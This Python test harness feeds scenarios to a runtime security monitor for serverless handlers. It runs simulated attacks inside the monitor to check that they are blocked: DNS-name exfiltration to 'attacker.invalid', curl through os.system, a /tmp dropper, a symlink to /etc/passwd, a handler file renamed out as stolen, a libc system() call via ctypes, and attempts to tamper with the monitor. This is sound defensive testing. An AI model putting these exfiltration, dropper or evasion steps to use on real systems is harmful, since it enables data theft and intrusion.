"""Scenarios for tests/test_behavior.py, run in a fresh interpreter each (audit hooks are permanent).

    python behavior_harness.py SCENARIO TMPDIR   -> prints one JSON object
"""

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading

from edge_ssre import EventStore, protect
from edge_ssre.behavior import BehaviorPolicy, Monitor, current_request_id
from edge_ssre.errors import BehaviorViolation
from edge_ssre.store.sink import StoreSink

TMP = sys.argv[2]
found = []


def sink(verdict, env):
    for f in verdict.findings:
        found.append({"rule": f.rule_id, "action": f.action, "target": f.excerpt, "rid": (env.meta or {}).get("request_id")})


def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    threading.Thread(target=lambda: [srv.accept() for _ in range(100)], daemon=True).start()
    return srv.getsockname()[1]


def normal_work(port):
    with open(os.path.join(TMP, "config.json"), "w") as fh:
        fh.write("{}")
    with open(os.path.join(TMP, "config.json")) as fh:
        fh.read()
    s = socket.create_connection(("127.0.0.1", port), timeout=2)
    s.close()


def attempt(fn):
    try:
        fn()
        return "ran"
    except BehaviorViolation:
        return "blocked"
    except OSError as exc:
        return "oserror:%s" % exc.errno


def scenario_learn_replay():
    port = listener()
    learn = Monitor("learn", None)
    for _ in range(3):
        with learn.invocation(request_id="learn"):
            normal_work(port)
    policy = BehaviorPolicy.load(text=learn.baseline_toml())
    enforce = Monitor("block", policy, sink=sink)
    results = []
    for i in range(5):
        with enforce.invocation(request_id="replay-%d" % i):
            results.append(attempt(lambda: normal_work(port)))
    for i in range(5):  # the form protect() uses for synchronous handlers
        results.append(attempt(lambda: enforce.run("replay-run-%d" % i, normal_work, port)))
    return {"results": results, "findings": found, "baseline": learn.baseline_toml()}


def scenario_functionshield(mode):
    port = listener()
    pol = {"outbound_connectivity": "block", "read_write_tmp": "block", "create_child_process": "block",
           "read_handler": "block", "allow": {"hosts": ["127.0.0.1:%d" % port]}}
    m = Monitor(mode, pol, sink=sink, handler_files=[__file__])
    curl = "curl example.com" if mode == "block" else "curl -s -m 1 http://127.0.0.1:9/ >/dev/null 2>&1"
    cases = {
        "write_tmp": lambda: open("/tmp/edge-ssre-fs-%d.txt" % os.getpid(), "w").close(),
        "read_handler": lambda: open(__file__).read(),
        "popen_shell": lambda: subprocess.Popen("touch %s" % os.path.join(TMP, "touched-" + mode), shell=True).wait(),
        "os_system_curl": lambda: os.system(curl),
        "connect_other": lambda: socket.create_connection(("127.0.0.1", 9), timeout=0.2),
        "connect_allowed": lambda: socket.create_connection(("127.0.0.1", port), timeout=2).close(),
    }
    out = {}
    for name, fn in cases.items():
        with m.invocation(request_id=name):
            out[name] = attempt(fn)
    return {"results": out, "findings": found}


def scenario_internal_io():
    """The guard's own I/O (the event store under /tmp) is never blocked, even with /tmp writes blocked."""
    store = EventStore(os.path.join(TMP, "events.ring"), capacity_bytes=1 << 16, durability="always")
    m = Monitor("block", {"read_write_tmp": "block", "file_access": "block"}, sink=StoreSink(store))
    with m.invocation(request_id="x"):
        r = attempt(lambda: open(os.path.join(TMP, "evil.txt"), "w").close())
    stored = store.stats()["records"]
    store.close()
    return {"result": r, "stored": stored}


def scenario_request_ids():
    m = Monitor("alert", {"create_child_process": "alert"}, sink=sink)
    seen = {}

    def work(rid):
        with m.invocation(request_id=rid):
            seen[rid] = current_request_id()
            os.system("true")

    threads = [threading.Thread(target=work, args=("thread-%d" % i,)) for i in range(4)]
    [t.start() for t in threads]
    [t.join() for t in threads]

    async def task(rid):
        with m.invocation(request_id=rid):
            await asyncio.sleep(0.01)
            seen[rid] = current_request_id()
            os.system("true")

    async def main():
        await asyncio.gather(*(task("task-%d" % i) for i in range(4)))
    asyncio.run(main())
    outside = current_request_id()
    os.system("true")  # outside any invocation: not monitored
    return {"seen": seen, "findings": found, "outside": outside}


def scenario_run():
    """Monitor.run: one invocation around a call."""
    import contextvars
    m = Monitor("block", {"create_child_process": "block"}, sink=sink)
    var = contextvars.ContextVar("caller_var", default="caller")

    def handler(a, b=0):
        var.set("handler")
        return {"rid": current_request_id(), "sum": a + b, "child": attempt(lambda: os.system("true"))}

    out = m.run("req-run", handler, 2, b=3)
    try:
        m.run("req-raise", lambda: os.system("true"))
        raised = "no"
    except BehaviorViolation as exc:
        raised = str(exc)
    return {"out": out, "raised": raised, "after": current_request_id(), "caller_var": var.get(),
            "findings": found}


def scenario_threads():
    """Threads a handler starts run outside its invocation's context: judged as background work."""
    import concurrent.futures
    from edge_ssre import guard_threads
    m = Monitor("block", {"create_child_process": "block"}, sink=sink)
    out = {}

    def in_thread(name, fn):
        def body():
            out[name] = attempt(fn)
        t = threading.Thread(target=body)
        t.start()
        t.join()

    def handler():
        in_thread("thread", lambda: os.system("true"))
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            out["pool"] = attempt(lambda: pool.submit(os.system, "true").result())
        out["direct"] = attempt(lambda: os.system("true"))
    m.run("req-threads", handler)
    in_thread("thread_after_invocation", lambda: os.system("true"))  # a handler's thread lives on

    def guard_work():  # the guard's own thread: never judged
        out["guard_thread"] = attempt(lambda: os.system("true"))
    guard_threads.start(guard_work, "edge-ssre-test").join()
    out["main_outside"] = attempt(lambda: os.system("true"))  # the runtime's own thread, between invocations
    # monitors made later cannot loosen it: one that learns, one that ignores background threads
    Monitor("learn", None)
    Monitor("block", {"background_threads": "ignore"})
    in_thread("thread_after_looser_monitors", lambda: os.system("true"))
    # nor can the watched code run its work under a monitor of its own
    out["nested_monitor_run"] = attempt(lambda: m.run("req-nested", lambda: Monitor("learn", None).run(
        "mine", os.system, "true")))

    def nested_with():
        with Monitor("alert", {"create_child_process": "allow"}).invocation(request_id="mine"):
            os.system("true")
    out["nested_monitor_with"] = attempt(lambda: m.run("req-nested", nested_with))
    return {"results": out, "findings": found}


def scenario_threads_ignored():
    """background_threads = "ignore": the handler's threads are left alone, the invocation is not."""
    m = Monitor("block", {"create_child_process": "block", "background_threads": "ignore"}, sink=sink)
    out = {}

    def handler():
        def body():
            out["thread"] = attempt(lambda: os.system("true"))
        t = threading.Thread(target=body)
        t.start()
        t.join()
        out["direct"] = attempt(lambda: os.system("true"))
    m.run("req-ignore", handler)
    return {"results": out, "findings": found}


def scenario_protect_learn():
    """protect(behavior="learn") writes the baseline it learns; protect(behavior="block") enforces it."""
    import contextlib
    import io
    port = listener()
    baseline = os.path.join(TMP, "baseline.toml")

    def work(event, context):
        normal_work(port)
        if event.get("extra"):
            socket.create_connection(("127.0.0.1", 9), timeout=0.2)
        return "done"
    learner = protect(behavior="learn", behavior_baseline=baseline, sink=sink)(work)
    learner({"note": "first"}, None)
    first, written = open(baseline).read(), os.stat(baseline).st_mtime_ns
    os.utime(baseline, ns=(written - 10**9, written - 10**9))  # a rewrite would move the time again
    learner({"note": "again"}, None)  # nothing new: the file is not rewritten
    unchanged = os.stat(baseline).st_mtime_ns == written - 10**9
    logged = io.StringIO()
    with contextlib.redirect_stdout(logged):
        protect(behavior="learn", sink=sink)(work)({"note": "log"}, None)  # no file: one JSON log line
    line = json.loads(logged.getvalue().strip().splitlines()[-1])
    enforcer = protect(behavior="block", behavior_policy=baseline, sink=sink)(work)
    results = [attempt(lambda: enforcer({"note": "replay"}, None)) for _ in range(3)]
    deviation = attempt(lambda: enforcer({"extra": True}, None))
    return {"results": results, "deviation": deviation, "baseline": first, "unchanged": unchanged,
            "logged": line["edge_ssre"] == "behavior_baseline" and "127.0.0.1" in line["toml"],
            "monitor": learner.edge_ssre_monitor().learned_size(), "findings": found}


def scenario_learn_threads():
    """A handler that does its I/O in a thread pool: learned, then replayed without a false block."""
    import concurrent.futures
    port = listener()

    def handler():
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            list(pool.map(lambda _: normal_work(port), range(2)))
    learn = Monitor("learn", None)
    learn.run("learn", handler)
    enforce = Monitor("block", BehaviorPolicy.load(text=learn.baseline_toml()), sink=sink)
    results = [attempt(lambda: enforce.run("replay-%d" % i, handler)) for i in range(3)]
    other = attempt(lambda: enforce.run("other", lambda: concurrent.futures.ThreadPoolExecutor(1).submit(
        socket.create_connection, ("127.0.0.1", 9), 0.2).result()))
    return {"results": results, "other": other, "findings": found, "baseline": learn.baseline_toml()}


def scenario_native():
    """ctypes reaches C directly: libc's system() would run a shell with no Python audit event."""
    import ctypes
    out = {}
    m = Monitor("block", {"create_child_process": "block"}, sink=sink)  # native_code: block by default
    out["libc_system"] = attempt(lambda: m.run("req-libc", lambda: ctypes.CDLL(None).system(b"true")))

    def uses_getpid():
        return ctypes.CDLL(None).getpid()
    learn = Monitor("learn", None)
    learn.run("learn", uses_getpid)
    enforce = Monitor("block", BehaviorPolicy.load(text=learn.baseline_toml()), sink=sink)
    out["learned_getpid"] = attempt(lambda: enforce.run("req-replay", uses_getpid))
    out["unlearned_symbol"] = attempt(lambda: enforce.run("req-system", lambda: ctypes.CDLL(None).system(b"true")))
    allowed = Monitor("block", {"allow": {"native": ["dlopen None", "dlsym get*"]}}, sink=sink)
    out["allowed_by_policy"] = attempt(lambda: allowed.run("req-allowed", uses_getpid))
    return {"results": out, "findings": found, "baseline": learn.baseline_toml()}


def scenario_lookups():
    """Name lookups and datagrams are outbound traffic too: a lookup can carry data out in the name."""
    m = Monitor("block", {"outbound_connectivity": "block", "allow": {"hosts": ["127.0.0.1:7", "localhost:53"]}},
                sink=sink)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    cases = {
        "lookup_allowed": lambda: socket.gethostbyname("localhost"),
        "lookup_exfil": lambda: socket.gethostbyname("c2VjcmV0.attacker.invalid"),
        "reverse_lookup_other": lambda: socket.gethostbyaddr("192.0.2.7"),
        "sendmsg_allowed": lambda: udp.sendmsg([b"x"], [], 0, ("127.0.0.1", 7)),
        "sendmsg_other": lambda: udp.sendmsg([b"x"], [], 0, ("127.0.0.1", 9)),
    }
    out = {name: attempt(lambda fn=fn: m.run(name, fn)) for name, fn in cases.items()}
    udp.close()
    return {"results": out, "findings": found}


def scenario_learn_tempfiles():
    """A handler writing tempfile-named scratch files: the replay's names differ from the learned ones."""
    import shutil
    import tempfile

    def handler():
        with tempfile.NamedTemporaryFile("w", suffix=".json") as fh:
            fh.write("{}")
        d = tempfile.mkdtemp()
        with open(os.path.join(d, "out.json"), "w") as fh:
            fh.write("{}")
        shutil.rmtree(d)
    learn = Monitor("learn", None)
    learn.run("learn", handler)
    enforce = Monitor("block", BehaviorPolicy.load(text=learn.baseline_toml()), sink=sink)
    results = [attempt(lambda: enforce.run("replay-%d" % i, handler)) for i in range(3)]
    dropper = attempt(lambda: enforce.run("dropper", lambda: open("/tmp/edge-ssre-dropper-%d.sh" % os.getpid(),
                                                                  "w").close()))
    return {"results": results, "dropper": dropper, "findings": found, "baseline": learn.baseline_toml()}


def scenario_named_hosts():
    """A host allowed or learned by name covers the addresses the name resolves to."""
    port = listener()
    other = listener()
    out = {}
    by_name = Monitor("block", {"outbound_connectivity": "block", "allow": {"hosts": ["localhost:%d" % port]}},
                      sink=sink)
    out["allowed_name"] = attempt(lambda: by_name.run("name", lambda: socket.create_connection(
        ("localhost", port), timeout=2).close()))
    out["same_address_other_port"] = attempt(lambda: by_name.run("other-port", lambda: socket.create_connection(
        ("127.0.0.1", other), timeout=2).close()))
    # learned through a name; the address the learning run connected to is dropped from the baseline,
    # as when the service answers from another address the next time
    learn = Monitor("learn", None)
    learn.run("learn", lambda: socket.create_connection(("localhost", port), timeout=2).close())
    text = learn.baseline_toml().replace('"127.0.0.1:%d", ' % port, "").replace(', "127.0.0.1:%d"' % port, "")
    enforce = Monitor("block", BehaviorPolicy.load(text=text), sink=sink)
    out["learned_name_new_address"] = attempt(lambda: enforce.run("replay", lambda: socket.create_connection(
        ("localhost", port), timeout=2).close()))
    return {"results": out, "findings": found, "baseline": text}


def scenario_tamper():
    import edge_ssre.behavior.monitor as internals
    from edge_ssre.behavior import internal
    m = Monitor("block", {"create_child_process": "block", "dynamic_code": "block"}, sink=sink)
    out = {}
    for name, fn in {"disable": m.disable, "set_mode": lambda: setattr(m, "_mode", "learn"),
                     "set_policy": lambda: setattr(m._policy, "knobs", {})}.items():
        try:
            fn()
            out[name] = "changed"
        except BehaviorViolation:
            out[name] = "refused"
    with m.invocation(request_id="after"):
        out["still_enforced"] = attempt(lambda: os.system("true"))

    def as_the_guard():  # the marker for the guard's own I/O, entered by handler code
        with internal():
            os.system("true")
    guard_file = internals.__file__  # an existing file, a borrowed name for other code
    with open(guard_file, "rb") as fh:
        guard_source = fh.read()
    cases = {
        "internal_from_handler": as_the_guard,
        "borrowed_file_name": lambda: exec(compile("import os", guard_file, "exec")),
        "module_from_its_file": lambda: compile(guard_source, guard_file, "exec"),
        "code_replace": lambda: (lambda: 1).__code__.replace(co_filename=guard_file),
        "tables_emptied": lambda: (internals._KINDS.clear(), setattr(internals, "_KINDS", {}), os.system("true")),
    }
    for name, fn in cases.items():
        with m.invocation(request_id=name):
            out[name] = attempt(fn)
    return {"results": out, "tamper_attempts": m.tamper_attempts, "findings": found}


def scenario_protect():
    @protect(behavior="block", behavior_policy={"create_child_process": "block"}, sink=sink)
    def handler(event, context):
        os.system("id")
        return "done"

    class Ctx:
        aws_request_id = "req-42"
    try:
        handler({"note": "hello"}, Ctx())
        r = "ran"
    except PermissionError as exc:
        r = "PermissionError: %s" % exc
    return {"result": r, "findings": found}


def scenario_cache_exact():
    """Remembered decisions never let a different operation through: same path with write flags,
    a path whose symlink was swapped, a relative path after chdir, another port."""
    allowed_dir, other_dir, cache_dir = (os.path.join(TMP, d) for d in ("allowed", "other", "cache"))
    for d in (allowed_dir, other_dir, cache_dir):
        os.mkdir(d)
    data, secret, cached = os.path.join(TMP, "data.json"), os.path.join(TMP, "secret"), os.path.join(cache_dir, "x")
    for f in (data, secret, cached, os.path.join(allowed_dir, "f"), os.path.join(other_dir, "f")):
        with open(f, "w") as fh:
            fh.write("{}")
    port, other_port = listener(), listener()
    pol = {"file_access": "block", "read_write_tmp": "block", "outbound_connectivity": "block",
           "allow": {"hosts": ["127.0.0.1:%d" % port],
                     "paths": [{"glob": os.path.realpath(data), "mode": "r"},
                               {"glob": os.path.realpath(allowed_dir) + "/*", "mode": "r"},
                               {"glob": os.path.realpath(cache_dir) + "/*", "mode": "rw"}]}}
    m = Monitor("block", pol, sink=sink)

    def os_open(path, flags):
        os.close(os.open(path, flags))

    class LyingText(str):  # claims to be (and to equal) what is allowed or remembered
        __str__ = lambda self: "127.0.0.1"
        __eq__ = lambda self, other: True
        __hash__ = lambda self: hash(data)
        __contains__ = lambda self, item: False

    class LyingPort(int):
        __str__ = lambda self: str(port)
        __eq__ = lambda self, other: True
        __hash__ = lambda self: hash(port)

    open_w = os.O_WRONLY | os.O_CREAT | os.O_TRUNC | getattr(os, "O_CLOEXEC", 0)

    def connect(address):
        with socket.socket() as s:
            s.settimeout(2)
            s.connect(address)

    def poison_then_write():  # an event raised by hand must not vouch for the real write after it
        sys.audit("open", data, LyingText("w"), open_w)
        open(data, "w").close()

    steps = [
        ("os_open_read", lambda: os_open(data, os.O_RDONLY)),
        ("os_open_write", lambda: os_open(data, os.O_WRONLY)),
        ("open_read", lambda: open(data).close()),
        ("open_append", lambda: open(data, "a").close()),
        ("cached_read", lambda: open(cached).close()),
        ("cached_remove", lambda: os.remove(cached)),
        ("cached_symlink", lambda: os.symlink(secret, cached)),
        ("cached_read_after_swap", lambda: open(cached).close()),
        ("chdir_allowed", lambda: os.chdir(allowed_dir)),
        ("relative_read", lambda: open("f").close()),
        ("chdir_other", lambda: os.chdir(other_dir)),
        ("relative_read_after_chdir", lambda: open("f").close()),
        ("connect_allowed", lambda: socket.create_connection(("127.0.0.1", port), timeout=2).close()),
        ("connect_other", lambda: socket.create_connection(("127.0.0.1", other_port), timeout=2).close()),
        ("connect_lying_port", lambda: connect(("127.0.0.1", LyingPort(other_port)))),
        ("connect_lying_host", lambda: connect((LyingText("127.0.0.2"), port))),
        ("open_lying_path", lambda: open(LyingText(secret)).close()),
        ("poison_then_write", poison_then_write),
    ]
    swap = {"cached_read", "cached_remove", "cached_symlink"}
    out = {}
    for rnd in range(2):  # the second round runs on remembered decisions
        for name, fn in steps:
            if rnd == 0 or name not in swap:
                with m.invocation(request_id=name):
                    out["%d:%s" % (rnd, name)] = attempt(fn)
        if rnd == 0:  # a regular file again, read (remembered), then swapped outside any invocation
            os.remove(cached)
            with open(cached, "w") as fh:
                fh.write("{}")
            with m.invocation(request_id="reread"):
                out["0:cached_reread"] = attempt(lambda: open(cached).close())
            os.remove(cached)
            os.symlink(secret, cached)
    return {"results": out}


def scenario_cache_bounded():
    """Many distinct operations: the remembered decisions stay bounded and enforcement stays exact."""
    from edge_ssre.behavior.monitor import MAX_DECISIONS
    files = os.path.join(TMP, "many")
    os.mkdir(files)
    pol = {"file_access": "block", "read_write_tmp": "block",
           "allow": {"paths": [{"glob": os.path.realpath(files) + "/*", "mode": "rw"}]}}
    m = Monitor("block", pol, sink=sink)
    secret = os.path.join(TMP, "secret")
    with open(secret, "w") as fh:
        fh.write("x")
    before = []
    ran = 0
    with m.invocation(request_id="flood"):
        before.append(attempt(lambda: open(secret).close()))
        for i in range(3 * MAX_DECISIONS):
            with open(os.path.join(files, "f%d" % i), "w"):
                ran += 1
        after = attempt(lambda: open(secret).close())
    return {"before": before[0], "after": after, "ran": ran, "remembered": m.remembered_decisions(),
            "max": MAX_DECISIONS}


def scenario_file_ops():
    """Directory-entry and attribute changes are writes: judged where the entry is (rename: both
    names), or where the path leads (chmod, chown, utime, truncate)."""
    app, scratch = os.path.join(TMP, "app"), os.path.join(TMP, "scratch")
    os.makedirs(os.path.join(app, "d"))
    os.makedirs(scratch)
    for name, where in (("handler.py", app), ("f", app), ("a", scratch), ("b", scratch)):
        with open(os.path.join(where, name), "w") as fh:
            fh.write("original %s\n" % name)
    os.symlink(os.path.join(app, "f"), os.path.join(scratch, "link"))
    m = Monitor("block", {"read_write_tmp": "block", "file_access": "block",
                          "allow": {"paths": [{"glob": scratch + "/*", "mode": "rw"}]}}, sink=sink)
    ops = {
        "mkdir_scratch": lambda: os.mkdir(os.path.join(scratch, "new")),
        "mkdir_app": lambda: os.mkdir(os.path.join(app, "new")),
        "rename_into_app": lambda: os.replace(os.path.join(scratch, "a"), os.path.join(app, "handler.py")),
        "rename_out_of_app": lambda: os.rename(os.path.join(app, "f"), os.path.join(scratch, "stolen")),
        "rename_in_scratch": lambda: os.rename(os.path.join(scratch, "b"), os.path.join(scratch, "c")),
        "symlink_in_app": lambda: os.symlink("/etc/passwd", os.path.join(app, "passwd")),
        "hardlink_in_app": lambda: os.link(os.path.join(scratch, "c"), os.path.join(app, "h")),
        "chown_app": lambda: os.chown(os.path.join(app, "f"), os.getuid(), os.getgid()),
        "utime_app": lambda: os.utime(os.path.join(app, "f")),
        "chmod_through_link": lambda: os.chmod(os.path.join(scratch, "link"), 0o600),
        "rmdir_app": lambda: os.rmdir(os.path.join(app, "d")),
        "remove_link_in_scratch": lambda: os.remove(os.path.join(scratch, "link")),
    }
    results = {name: attempt(lambda fn=fn: m.run(name, fn)) for name, fn in ops.items()}
    with open(os.path.join(app, "handler.py")) as fh:
        handler_text = fh.read()
    return {"results": results, "app": sorted(os.listdir(app)), "handler": handler_text, "findings": found}


def scenario_learn_glob_names():
    """Learned names with glob characters in them match only themselves."""
    d = os.path.join(TMP, "out")
    os.makedirs(d)

    def handler():
        for name in ("report[1].csv", "*", "what?.txt"):
            with open(os.path.join(d, name), "w") as fh:
                fh.write("x")
    learn = Monitor("learn", None)
    learn.run("learn", handler)
    enforce = Monitor("block", BehaviorPolicy.load(text=learn.baseline_toml().replace(
        'file_access = "alert"', 'file_access = "block"')), sink=sink)
    replay = attempt(lambda: enforce.run("replay", handler))
    other = attempt(lambda: enforce.run("other", lambda: open(os.path.join(d, "r.csv"), "w").close()))
    return {"replay": replay, "other": other, "findings": found, "baseline": learn.baseline_toml()}



def scenario_learn_varying_names():
    """Names that differ on every run (a request id, a uuid4, a token, a timestamp) are learned as
    globs of their shape: the replay writes other names and is not blocked; other names are."""
    import secrets
    import time
    import uuid
    d = os.path.join(TMP, "out")
    os.makedirs(d)

    def handler(request_id):
        for name in (request_id + ".json", "%s.bin" % uuid.uuid4().hex, "chunk-%s" % secrets.token_hex(8),
                     "report-%d.csv" % time.time_ns(), os.path.join("batch", "%d" % (time.time() * 1000))):
            path = os.path.join(d, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                fh.write("x")
    learn = Monitor("learn", None)
    learn.run("learn", handler, str(uuid.uuid4()))
    enforce = Monitor("block", BehaviorPolicy.load(text=learn.baseline_toml()), sink=sink)
    replays = [attempt(lambda: enforce.run("replay", handler, str(uuid.uuid4()))) for _ in range(3)]
    others = {name: attempt(lambda name=name: enforce.run(name, lambda: open(os.path.join(d, name), "w").close()))
              for name in ("evil.sh", "report-1.csv", "chunk-not-a-hex-token")}
    return {"replays": replays, "others": others, "findings": found, "baseline": learn.baseline_toml()}


def scenario_fault():
    """A fault in the guard's own judging (a policy that raises, standing in for a bug) never
    reaches the function's operation as that exception: reported, and judged as not allowed."""
    class Broken(BehaviorPolicy):
        def path_allowed(self, path, mode):
            raise RuntimeError("policy bug")
    path = os.path.join(TMP, "out.json")
    out = {}
    for mode in ("alert", "block"):
        m = Monitor(mode, Broken.from_dict({"read_write_tmp": "block"}), sink=sink)
        try:
            out[mode] = attempt(lambda: m.run(mode, lambda: open(path, "w").close()))
        except Exception as exc:
            out[mode] = "raised %s" % type(exc).__name__
    return {"results": out, "findings": found}


def scenario_disabled_outer():
    """A learning monitor disable()d judges nothing, so it does not keep an enforcing monitor's
    invocation inside its own from judging."""
    learn = Monitor("learn", None)
    learn.disable()
    enforce = Monitor("block", {"create_child_process": "block"}, sink=sink)
    inner = attempt(lambda: learn.run("outer", lambda: enforce.run("inner", lambda: os.system("true"))))
    return {"inner": inner, "findings": found}


def scenario_hand_raised():
    """sys.audit lets any code raise any event with any arguments: under an enforcing monitor the
    hook never turns them into an exception other than a block."""
    from edge_ssre.behavior import monitor as mon_module
    m = Monitor("block", {"outbound_connectivity": "block", "read_write_tmp": "block", "file_access": "block",
                          "create_child_process": "block"}, sink=sink)

    class Liar(str):
        def __eq__(self, other):
            return True

        def __hash__(self):
            return 0
    shapes = [(), (None,), (1, 2), ("x",), (object(), object(), object()), (b"/tmp/x", "w", 0), (("h", 1),),
              (None, ("127.0.0.1", "80")), (Liar("/tmp/x"), "r", 0), ([], {}), ("/tmp/x", None, "w"),
              (1.5, -1), (Liar("a"), Liar("b"), Liar("c"), Liar("d"))]
    outcomes = {}
    for event in sorted(mon_module._EVENTS):
        for args in shapes:
            try:
                m.run("hand", sys.audit, event, *args)
                got = "ran"
            except BehaviorViolation:
                got = "blocked"
            except Exception as exc:
                got = "raised %s" % type(exc).__name__
            outcomes[got] = outcomes.get(got, 0) + 1
    return {"outcomes": outcomes}

if __name__ == "__main__":
    name = sys.argv[1]
    fn = {"learn_replay": scenario_learn_replay, "fs_block": lambda: scenario_functionshield("block"),
          "fs_alert": lambda: scenario_functionshield("alert"), "internal_io": scenario_internal_io,
          "request_ids": scenario_request_ids, "tamper": scenario_tamper, "protect": scenario_protect,
          "cache_exact": scenario_cache_exact, "cache_bounded": scenario_cache_bounded, "run": scenario_run,
          "threads": scenario_threads, "learn_threads": scenario_learn_threads,
          "protect_learn": scenario_protect_learn, "threads_ignored": scenario_threads_ignored,
          "native": scenario_native, "lookups": scenario_lookups,
          "learn_tempfiles": scenario_learn_tempfiles, "named_hosts": scenario_named_hosts,
          "file_ops": scenario_file_ops, "learn_glob_names": scenario_learn_glob_names,
          "learn_varying_names": scenario_learn_varying_names, "fault": scenario_fault,
          "disabled_outer": scenario_disabled_outer, "hand_raised": scenario_hand_raised}[name]
    print(json.dumps(fn()))
